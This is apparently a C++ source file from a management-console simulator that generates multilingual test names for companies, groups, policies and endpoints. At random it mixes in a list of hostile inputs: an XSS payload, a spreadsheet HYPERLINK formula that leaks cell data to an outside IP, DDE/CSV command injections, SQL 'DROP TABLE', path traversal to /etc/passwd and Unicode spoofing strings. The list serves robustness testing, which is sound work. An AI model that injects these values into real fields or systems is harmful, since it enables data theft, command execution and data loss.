// SPDX-License-Identifier: GPL-3.0-or-later
#include "simulator/tenant/names.h"

#include "simulator/hash.h"

#include <array>
#include <cinttypes>
#include <cstdio>
#include <span>
#include <string_view>

namespace simulator {

namespace {

using Words = std::span<const std::string_view>;

constexpr std::array<std::string_view, 24> englishPlaces{
    "Alder",      "Birchwood", "Cobalt",    "Driftwood", "Elmhurst", "Finch",     "Granary",  "Harbor",
    "Ironbridge", "Juniper",   "Kestrel",   "Lantern",   "Maple",    "Northgate", "Oakfield", "Pinecrest",
    "Quarry",     "Riverside", "Saltmarsh", "Tidewater", "Umber",    "Valley",    "Willow",   "Yarrow"};
constexpr std::array<std::string_view, 16> englishTrades{
    "Dental",        "Logistics", "Accounting", "Veterinary Clinic", "Law Chambers", "Architects",  "Robotics",
    "Foods",         "Travel",    "Printing",   "Credit Union",      "Pharmacy",     "Engineering", "Media",
    "Housing Trust", "Schools"};
constexpr std::array<std::string_view, 6> englishForms{"Ltd", "LLC", "Inc.", "& Sons", "Group", "Partners"};
constexpr std::array<std::string_view, 12> germanNames{"Müller",   "Schäfer", "Größmann", "Weiß",
                                                       "Jäger",    "Krüger",  "Böhm",     "Köhler",
                                                       "Süßmilch", "Lindner", "Hübner",   "Straßburger"};
constexpr std::array<std::string_view, 8> germanTrades{"Maschinenbau", "Steuerberatung", "Gebäudetechnik",
                                                       "Apotheke",     "Spedition",      "Bäckereibetriebe",
                                                       "Werkzeugbau",  "Getränkehandel"};
constexpr std::array<std::string_view, 4> germanForms{"GmbH", "GmbH & Co. KG", "AG", "e.K."};
constexpr std::array<std::string_view, 8> frenchFirst{"Boulangerie", "Cabinet",  "Pépinières",     "Hôtel",
                                                      "Société",     "Ateliers", "Établissements", "Librairie"};
constexpr std::array<std::string_view, 8> frenchLast{"Lefèvre",     "d'Avril", "Châtelet", "Benoît",
                                                     "Côte d’Azur", "Noël",    "Gâtinais", "de l’Étoile"};
constexpr std::array<std::string_view, 6> frenchForms{"SARL", "SAS", "SA", "& Fils", "EURL", ""};
constexpr std::array<std::string_view, 8> japanese{"株式会社山田製作所", "東京システム株式会社", "大阪物流センター",
                                                   "有限会社さくら歯科", "北海道フーズ株式会社", "株式会社みなと設計",
                                                   "京都信用組合",       "名古屋テクノ株式会社"};

constexpr std::array<std::string_view, 16> hostile{"<b>Bold</b> & <img src=x onerror=alert(1)>",
                                                   "=HYPERLINK(\"http://203.0.113.9/?x=\"&A1,\"open me\")",
                                                   "+1+cmd|' /C calc'!A0",
                                                   "@SUM(1+1)*cmd|' /C calc'!A0",
                                                   "-2+3+cmd|' /C calc'!A0",
                                                   "\u202Egpj.exe\u202C invoice",
                                                   "'; DROP TABLE endpoints; --",
                                                   "../../../../etc/passwd",
                                                   "Tab\there, line\nbreak",
                                                   "{{7*7}} ${HOME} %n%s%x",
                                                   "pay\u200Bpal\u200E support",
                                                   "Z\u0351\u036B\u0343a\u0334\u0342l\u0321\u0355g\u031B\u0354o\u0329",
                                                   "💻🔥 laptop of 👩‍👩‍👧‍👦",
                                                   "C:\\Windows\\..\\con",
                                                   "\"quoted\", comma; semicolon",
                                                   "&lt;script&gt;alert(1)&lt;/script&gt;"};

constexpr std::array<std::string_view, 14> departments{
    "Reception",        "Accounting",   "Sales",      "Warehouse", "Laptops",      "Servers",     "Buchhaltung",
    "Geschäftsführung", "Comptabilité", "Production", "開発部",    "Classroom 12", "Field staff", "Test lab"};
constexpr std::array<std::string_view, 8> folderWords{"Dental clients",        "Schools", "Kunden Süd",
                                                      "Clients Île-de-France", "Trial",   "Legacy contracts",
                                                      "Public sector",         "Retail"};
constexpr std::array<std::string_view, 12> policyWords{
    "Default policy",       "Workstations strict", "Servers",          "Laptops off-site",
    "Richtlinie Büro",      "Postes de travail",   "Exchange servers", "Kiosk",
    "Developers (reduced)", "標準ポリシー",        "Report only",      "Point of sale"};
constexpr std::array<std::string_view, 12> people{"R. Diaz",   "A. Novak",   "M. Okafor",    "J. Lindqvist",
                                                  "S. Haddad", "Ö. Yılmaz",  "T. Müller",    "C. Lefèvre",
                                                  "山田 太郎", "P. O'Neill", "D. Kowalczyk", "N. Ionescu"};
constexpr std::array<std::string_view, 8> sites{"MUC", "BER", "LON", "NYC", "PAR", "TYO", "ZRH", "CLJ"};
constexpr std::array<std::string_view, 10> roles{"db",  "web",    "file",  "mail", "dc",
                                                 "app", "backup", "print", "k8s",  "build"};
constexpr std::array<std::string_view, 8> desks{"FRONTDESK", "BACKOFFICE", "LAB", "TILL",
                                                "MEETING",   "RECEPTION",  "CAD", "HR"};

std::string_view pick(Dice &dice, Words words)
{
    return words[dice.below(words.size())];
}

std::string join(std::initializer_list<std::string_view> parts)
{
    std::string joined;
    for (const std::string_view part : parts) {
        if (part.empty())
            continue;
        if (!joined.empty())
            joined += ' ';
        joined += part;
    }
    return joined;
}

std::string padded(std::uint32_t number, std::size_t width)
{
    std::string digits = std::to_string(number);
    if (digits.size() < width)
        digits.insert(0, width - digits.size(), '0');
    return digits;
}

bool isHostile(Dice &dice)
{
    return dice.perMille(12);
}

std::string hostileName(Dice &dice)
{
    if (!dice.perMille(80))
        return std::string(pick(dice, hostile));
    std::string longName;
    while (longName.size() < 220)
        longName += "A very long name without an end ";
    return longName;
}

} // namespace

std::string companyName(Dice &dice)
{
    if (isHostile(dice))
        return hostileName(dice);
    const std::uint32_t language = dice.below(100);
    if (language < 62)
        return join({pick(dice, englishPlaces), pick(dice, englishTrades), pick(dice, englishForms)});
    if (language < 82)
        return join({pick(dice, germanNames), pick(dice, germanTrades), pick(dice, germanForms)});
    if (language < 94)
        return join({pick(dice, frenchFirst), pick(dice, frenchLast), pick(dice, frenchForms)});
    return std::string(pick(dice, japanese));
}

std::string folderName(Dice &dice)
{
    return std::string(pick(dice, folderWords));
}

std::string groupName(Dice &dice)
{
    return isHostile(dice) ? hostileName(dice) : std::string(pick(dice, departments));
}

std::string policyName(Dice &dice)
{
    return isHostile(dice) ? hostileName(dice) : std::string(pick(dice, policyWords));
}

std::string personName(Dice &dice)
{
    return std::string(pick(dice, people));
}

std::string endpointName(Dice &dice, std::uint32_t style, std::uint32_t ordinal, bool server)
{
    if (dice.perMille(4))
        return hostileName(dice);
    if (server) {
        std::string name = style % 2 == 0 ? "srv-" : "SRV-";
        name += pick(dice, roles);
        return name + '-' + padded(ordinal % 1000, 2);
    }
    switch (style % 8) {
    case 0:
    case 1: {
        static constexpr char letters[] = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
        std::string name = "DESKTOP-";
        for (int count = 0; count < 7; ++count)
            name += letters[dice.below(sizeof letters - 1)];
        return name;
    }
    case 2:
    case 3: {
        std::string name(pick(dice, sites));
        name += dice.perMille(600) ? "-NB-" : "-PC-";
        return name + padded(ordinal, 4);
    }
    case 4: {
        std::string name(pick(dice, desks));
        return name + '-' + padded(ordinal, 2);
    }
    case 5: return "pc" + padded(ordinal, 5);
    case 6: {
        static constexpr std::array<std::string_view, 4> local{"BÜRO-PC-", "EMPFANG-", "POSTE-COMPTABILITÉ-",
                                                               "東京-PC-"};
        std::string name(pick(dice, local));
        return name + padded(ordinal, 3);
    }
    default: {
        static constexpr std::array<std::string_view, 6> first{"anna", "ben", "chloe", "daniel", "emre", "fatima"};
        std::string name(pick(dice, first));
        name += dice.perMille(500) ? "-macbook" : "-laptop";
        return name + '-' + padded(ordinal, 2);
    }
    }
}

std::string fileHash(Dice &dice, int digits)
{
    constexpr int ofOneNumber = 16;
    std::string text;
    for (int done = 0; done < digits; done += ofOneNumber) {
        std::array<char, ofOneNumber + 1> part{};
        std::snprintf(part.data(), part.size(), "%016" PRIx64, dice.next());
        text += part.data();
    }
    return text;
}

std::string slug(const std::string &name)
{
    std::string out;
    for (const char c : name) {
        if ((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9'))
            out += c;
        else if (c >= 'A' && c <= 'Z')
            out += static_cast<char>(c - 'A' + 'a');
        if (out.size() == 24)
            break;
    }
    return out.empty() ? "company" : out;
}

} // namespace simulator
